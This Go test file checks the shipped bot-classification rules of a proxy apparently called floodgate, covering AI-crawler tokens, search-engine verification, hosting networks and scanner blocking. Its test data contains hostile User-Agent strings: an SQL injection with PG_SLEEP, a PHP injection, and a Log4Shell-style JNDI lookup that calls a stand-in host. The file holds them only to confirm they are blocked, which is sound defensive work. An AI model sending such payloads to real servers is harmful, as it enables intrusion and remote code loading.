package rulefiles_test

import (
	"encoding/json"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/floodgate-proxy/floodgate/internal/classify"
	"github.com/floodgate-proxy/floodgate/internal/network"
	"github.com/floodgate-proxy/floodgate/rules"
)

// fixtures is where the copied test data lives (with its licences), relative to this folder.
var fixtures = filepath.Join("..", "testdata")

// userAgents is where the User-Agent corpora live (copies with their licences, see
// testdata/useragents/README.md), relative to this folder.
var userAgents = filepath.Join("..", "testdata", "useragents")

// residential is an address of a consumer ISP in testdata/mmdb/test-asn.mmdb (Orange, AS3215)
// and in no range of the shipped rules.
var residential = netip.MustParseAddr("90.1.2.3")

func shipped(t testing.TB, withASN bool) *classify.Classifier {
	t.Helper()
	set, err := rulefiles.Load(rulefiles.Shipped)
	if err != nil {
		t.Fatalf("the shipped rules do not load: %v", err)
	}
	var asn classify.ASNLookup
	if withASN {
		db, err := network.OpenASN(filepath.Join("..", "testdata", "mmdb", "test-asn.mmdb"))
		if err != nil {
			t.Fatalf("test ASN database: %v", err)
		}
		asn = db
	}
	return classify.New(set, asn, network.PrefixLengths{})
}

func classifyUA(c *classify.Classifier, ip netip.Addr, ua string) classify.Result {
	var res classify.Result
	c.Classify(&classify.Request{IP: ip, UserAgent: ua, Host: "example.org", Method: "GET", Path: "/"}, &res)
	return res
}

// readFixture reads one of isbot's fixture files: a mapping of names to lists of user agents.
func readFixture(t *testing.T, name string) map[string][]string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(fixtures, "isbot-fixtures", name))
	if err != nil {
		t.Fatalf("isbot fixtures: %v", err)
	}
	var m map[string][]string
	if err := yaml.Unmarshal(data, &m); err != nil {
		t.Fatalf("isbot fixtures %s: %v", name, err)
	}
	if len(m) == 0 {
		t.Fatalf("isbot fixtures %s: empty", name)
	}
	return m
}

func TestShippedFilesLoadInOrder(t *testing.T) {
	want := []string{"10-search-engines.yaml", "20-ai-crawlers.yaml", "30-automation.yaml",
		"40-hosting-networks.yaml", "50-expensive-paths.yaml", "55-compromised-sites.yaml", "90-browsers.yaml"}
	if got := rulefiles.Files(); !slices.Equal(got, want) {
		t.Fatalf("shipped files = %v, want %v", got, want)
	}
	c := shipped(t, false)
	if n := len(c.Set().Rules); n < 166+150 {
		t.Errorf("only %d shipped rules; expected 166 AI tokens and some 200 other rules", n)
	}
}

// browserExceptions are isbot "browser" fixtures that the shipped rules deliberately classify
// otherwise. isbot files them under its "ZZZ" sections as glitches or insignificant bots; for a
// shared host they are automation worth naming.
var browserExceptions = map[string]struct{ class, why string }{
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amzn-User/0.1) Chrome/119.0.6045.214 Safari/537.36": {
		"ai-crawler", "Amzn-User is an ai.robots.txt token (Amazon's assistant fetcher): every token is an AI agent"},
	"amazon-kendra-customer-id-<AccountID>": {
		"ai-crawler", "amazon-kendra is an ai.robots.txt token (Amazon Kendra's search crawler)"},
	"Mozilla/5.0 (compatible; Yahoo! Slurp)": {
		"search-bot", "Yahoo! Slurp is Yahoo's search crawler"},
	"LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--": {
		"bot", "an SQL injection payload in the User-Agent: an attack, blocked"},
	`Mozilliqa"<?=print(9347655345-4954366);?>"`: {
		"bot", "a PHP injection payload in the User-Agent: an attack, blocked"},
	"Mozilla/5.0 (Laravel Reaver .env Presence)": {
		"bot", "a scanner probing for leaked Laravel .env files, blocked"},
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3122.113 Safari/537.36 Assetnote/1.0.0": {
		"bot", "Assetnote is an attack-surface scanner (internet survey budget)"},
	"pinterest/0.": {
		"bot", "Pinterest's link preview fetcher"},
	"Mozilla/5.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322) 360JK yunjiankong 427691": {
		"bot", "360JK yunjiankong is a Chinese uptime monitoring service"},
	"MyLib/1.11 (vert.x/4.11.2; GraalVM/21; Java; custom-client)": {
		"bot", "a Java HTTP client library by its own words (vert.x, custom-client)"},
	"Mozilla/5.0 (compatible; Lucidworks-Anda/2.0/0.10; +; )": {
		"bot", "a compatible; comment naming no browser, platform or engine, with an empty +URL contact: a crawler's shape (Lucidworks is a search platform)"},
}

// crawlerExceptions are isbot crawler fixtures the shipped rules deliberately leave browser.
// None: the requirement is that no crawler fixture is taken for a person.
var crawlerExceptions = map[string]string{}

func TestIsbotCrawlersAreNotBrowsers(t *testing.T) {
	c := shipped(t, false)
	n := 0
	for name, uas := range readFixture(t, "crawlers.yml") {
		for _, ua := range uas {
			n++
			res := classifyUA(c, residential, ua)
			if res.Class == "browser" {
				if why, ok := crawlerExceptions[ua]; ok {
					t.Logf("deliberate exception %q: %s", ua, why)
					continue
				}
				t.Errorf("crawler fixture %q (%s) classified as browser by rule %s; expected a bot class", ua, name, res.Rule)
			}
		}
	}
	if n < 600 {
		t.Errorf("read %d crawler fixtures, expected over 600", n)
	}
}

func TestIsbotBrowsersAreBrowsers(t *testing.T) {
	c := shipped(t, false)
	n, seen := 0, map[string]bool{}
	for name, uas := range readFixture(t, "browsers.yml") {
		for _, ua := range uas {
			n++
			res := classifyUA(c, residential, ua)
			want, why := "browser", ""
			if ex, ok := browserExceptions[ua]; ok {
				want, why = ex.class, ex.why
				seen[ua] = true
			}
			if res.Class != want {
				t.Errorf("browser fixture %q (%s) classified as %s (rule %s, bot %s); expected %s %s", ua, name, res.Class, res.Rule, res.Bot, want, why)
			}
		}
	}
	if n < 550 {
		t.Errorf("read %d browser fixtures, expected over 550", n)
	}
	for ua := range browserExceptions {
		if !seen[ua] {
			t.Errorf("exception %q is not a browser fixture any more: remove it", ua)
		}
	}
}

func TestEveryAITokenIsNamed(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("gen", "robots.json"))
	if err != nil {
		t.Fatal(err)
	}
	var agents map[string]struct {
		Function string `json:"function"`
	}
	if err := json.Unmarshal(data, &agents); err != nil {
		t.Fatal(err)
	}
	if len(agents) != 166 {
		t.Errorf("robots.json holds %d tokens, expected 166 (refreshed? update this test)", len(agents))
	}
	// DuckAssistBot is verified by 10-search-engines.yaml: ask from one of its addresses.
	duckAssist := netip.MustParseAddr("4.144.182.50")
	c := shipped(t, false)
	groups := map[string]int{}
	for tok := range agents {
		ip := residential
		if tok == "DuckAssistBot" {
			ip = duckAssist
		}
		ua := "Mozilla/5.0 (compatible; " + tok + "/9.9; +https://example.com/bot)"
		res := classifyUA(c, ip, ua)
		if res.Class != "ai-crawler" || res.Bot != tok {
			t.Errorf("%q: class %s, bot %q (rule %s); expected ai-crawler, bot %q", ua, res.Class, res.Bot, res.Rule, tok)
			continue
		}
		group, _, _ := strings.Cut(res.IdentityRule.Description, ":")
		groups[group]++
	}
	for _, g := range []string{"training", "search", "user"} {
		if groups[g] == 0 {
			t.Errorf("no token in group %q (groups seen: %v)", g, groups)
		}
	}
	t.Logf("tokens per group: %v", groups)
}

// Every token of gen/more-ai-tokens.tsv that the generator keeps is named by its own rule, and
// tokens are matched with their boundaries: Exalead's Exabot is not Exa.ai's ExaBot.
func TestMoreAITokensAndBoundaries(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("gen", "more-ai-tokens.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	skipped := map[string]bool{"SemrushBot-BA": true, "SemrushBot-CT": true, "SemrushBot-SI": true,
		"imgproxy": true, "ias_crawler": true, "ias_wombles": true, "AutoRAG": true}
	c := shipped(t, false)
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")[1:]
	if len(lines) != 49 {
		t.Errorf("more-ai-tokens.tsv holds %d tokens, expected 49", len(lines))
	}
	for _, line := range lines {
		tok, _, _ := strings.Cut(line, "\t")
		ua := "Mozilla/5.0 (compatible; " + tok + "/1.0)"
		res := classifyUA(c, residential, ua)
		if skipped[tok] {
			if res.Bot == tok {
				t.Errorf("%q is skipped by the generator but has a rule", tok)
			}
			continue
		}
		if res.Class != "ai-crawler" || res.Bot != tok {
			t.Errorf("%q: class %s bot %q (rule %s); expected ai-crawler, bot %q", ua, res.Class, res.Bot, res.Rule, tok)
		}
	}
	tests := []struct{ ua, class, bot string }{
		{"Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)", "bot", "automation"},
		{"Mozilla/5.0 (compatible; ExaBot/1.0; +https://exa.ai/)", "ai-crawler", "ExaBot"},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 BytedanceWebview/d8a21c6", "browser", "browser"},
		{"Bytedance crawler", "ai-crawler", "Bytedance"},
		// The generic AI rule: an .ai domain, or AI as a product word, in an unnamed program.
		{"SomeFetcher/2.1 (+https://example.ai/bot)", "ai-crawler", "ai-unnamed"},
		{"Acme-AI-Agent/1.0", "ai-crawler", "ai-unnamed"},
		{"AcmeAI/1.0 (compatible)", "bot", "program"},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36", "browser", "browser"},
	}
	for _, tt := range tests {
		res := classifyUA(c, residential, tt.ua)
		if res.Class != tt.class || res.Bot != tt.bot {
			t.Errorf("%q: class %s bot %q (rule %s); expected %s %q", tt.ua, res.Class, res.Bot, res.Rule, tt.class, tt.bot)
		}
	}
}

func TestAIGroupsAndBudgets(t *testing.T) {
	c := shipped(t, false)
	tests := []struct {
		ua, bot, group, firstBudget string
	}{
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", "training", "60/min per bot+host"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "ClaudeBot", "training", "60/min per bot+host"},
		{"CCBot/2.0 (https://commoncrawl.org/faq/)", "CCBot", "training", "60/min per bot+host"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot)", "OAI-SearchBot", "search", "120/min per bot+host"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)", "PerplexityBot", "search", "120/min per bot+host"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot", "ChatGPT-User", "user", "60/min per ip"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)", "Perplexity-User", "user", "60/min per ip"},
		{"meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)", "meta-externalagent", "training", "60/min per bot+host"},
		{"iaskspider/2.0(+https://iask.ai)", "iaskspider/2.0", "search", "120/min per bot+host"},
		// Whole-word tokens do not fire inside longer words.
		{"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "Baiduspider", "", ""},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36 opencode/0.3", "opencode", "user", "60/min per ip"},
	}
	for _, tt := range tests {
		res := classifyUA(c, residential, tt.ua)
		if res.Bot != tt.bot {
			t.Errorf("%q: bot %q (rule %s), expected %q", tt.ua, res.Bot, res.Rule, tt.bot)
			continue
		}
		if tt.group == "" {
			continue
		}
		group, _, _ := strings.Cut(res.IdentityRule.Description, ":")
		if group != tt.group {
			t.Errorf("%q: group %q, expected %q", tt.ua, group, tt.group)
		}
		if b := res.IdentityRule.Budgets; len(b) == 0 || b[0].Label != tt.firstBudget {
			t.Errorf("%q: budgets %v, expected first %q", tt.ua, b, tt.firstBudget)
		}
	}
}

func TestSearchEnginesAreVerified(t *testing.T) {
	c := shipped(t, true)
	const googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	const bingbot = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"
	const duckduckbot = "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"
	tests := []struct {
		name, ip, ua       string
		class, bot         string
		verified, impostor bool
	}{
		{"real Googlebot", "66.249.66.1", googlebot, "search-bot", "Googlebot", true, false},
		{"real Googlebot over IPv6", "2001:4860:4801:10::1", googlebot, "search-bot", "Googlebot", true, false},
		{"Googlebot from a home ISP", residential.String(), googlebot, "bot", "impostor:Googlebot", false, true},
		{"Googlebot from AWS", "3.1.2.3", googlebot, "bot", "impostor:Googlebot", false, true},
		{"real bingbot", "13.66.139.10", bingbot, "search-bot", "bingbot", true, false},
		{"bingbot from a home ISP", residential.String(), bingbot, "bot", "impostor:bingbot", false, true},
		{"real DuckDuckBot", "4.144.182.50", duckduckbot, "search-bot", "DuckDuckBot", true, false},
		{"DuckDuckBot from Hetzner", "127.0.4.9", duckduckbot, "bot", "impostor:DuckDuckBot", false, true},
		{"Yandex is believed (no ranges shipped)", residential.String(), "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "search-bot", "YandexBot", false, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := classifyUA(c, netip.MustParseAddr(tt.ip), tt.ua)
			if res.Class != tt.class || res.Bot != tt.bot || res.Verified != tt.verified || res.Impostor != tt.impostor {
				t.Errorf("got class %s bot %q verified %v impostor %v (rule %s); expected %s %q %v %v",
					res.Class, res.Bot, res.Verified, res.Impostor, res.Rule, tt.class, tt.bot, tt.verified, tt.impostor)
			}
			if tt.impostor && (res.IdentityRule == nil || res.IdentityRule.Impostor.String() != "block") {
				t.Errorf("an impostor of %s should be blocked", tt.bot)
			}
		})
	}
}

func TestHostingNetworks(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"
	withASN, noASN := shipped(t, true), shipped(t, false)
	tests := []struct {
		name             string
		c                *classify.Classifier
		ip               string
		ua               string
		class, bot, rule string
	}{
		{"browser from a home ISP", withASN, residential.String(), chrome, "browser", "browser", "browser"},
		{"browser from AWS by ASN", withASN, "127.0.1.7", chrome, "bot", "hosting:aws", "hosting-aws"},
		{"browser from Hetzner by ASN", withASN, "127.0.4.7", chrome, "bot", "hosting:hetzner", "hosting-hetzner"},
		{"browser from Azure by ASN", withASN, "127.0.3.7", chrome, "bot", "hosting:azure", "hosting-azure"},
		{"browser from AWS, no ASN database: by range", noASN, "3.2.0.9", chrome, "bot", "hosting:aws", "hosting-aws-ranges"},
		{"browser from Google, by ASN 15169", withASN, "127.0.2.7", chrome, "bot", "hosting:google-cloud", "hosting-google-cloud"},
		{"Googlebot from its range in AS15169 stays Googlebot", withASN, "66.249.66.1", "Googlebot/2.1 (+http://www.google.com/bot.html)", "search-bot", "Googlebot", "Googlebot"},
		{"GPTBot from AWS stays GPTBot", withASN, "127.0.1.7", "GPTBot/1.2", "ai-crawler", "GPTBot", "GPTBot"},
		{"curl from AWS stays curl", withASN, "127.0.1.7", "curl/8.5.0", "bot", "curl", "curl"},
		{"empty User-Agent", withASN, residential.String(), "", "unknown", "empty-user-agent", "empty-user-agent"},
		{"garbled User-Agent", withASN, residential.String(), "-", "unknown", "unrecognised", "unrecognised-user-agent"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := classifyUA(tt.c, netip.MustParseAddr(tt.ip), tt.ua)
			if res.Class != tt.class || res.Bot != tt.bot || res.Rule != tt.rule {
				t.Errorf("got class %s bot %q rule %s (asn %d); expected %s %q %s", res.Class, res.Bot, res.Rule, res.ASN, tt.class, tt.bot, tt.rule)
			}
		})
	}
}

func TestScannersAreBlocked(t *testing.T) {
	c := shipped(t, false)
	for _, ua := range []string{
		"sqlmap/1.7.2#stable (https://sqlmap.org)",
		"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		"${jndi:ldap://198.51.100.7:1389/a}",
		"WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
	} {
		res := classifyUA(c, residential, ua)
		if res.Class != "bot" || res.IdentityRule == nil || res.IdentityRule.Action.String() != "block" {
			t.Errorf("%q: class %s rule %s; expected a blocking bot rule", ua, res.Class, res.Rule)
		}
	}
}

func BenchmarkClassifyShipped(b *testing.B) {
	c := shipped(b, false)
	uas := []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
		"curl/8.5.0",
	}
	var res classify.Result
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		c.Classify(&classify.Request{IP: residential, UserAgent: uas[i%len(uas)]}, &res)
	}
}
